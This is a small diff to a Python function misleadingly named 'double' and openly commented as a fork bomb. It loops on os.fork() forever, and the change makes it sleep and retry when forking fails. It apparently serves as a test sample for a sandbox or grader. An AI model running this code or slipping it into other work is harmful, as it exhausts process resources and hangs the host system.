@@ -1,9 +1,10 @@
 #: a fork bomb
 def double(x):
     import os
+    import time
 
     while True:
         try:
             os.fork()
         except OSError:
-            pass
+            time.sleep(0.2)
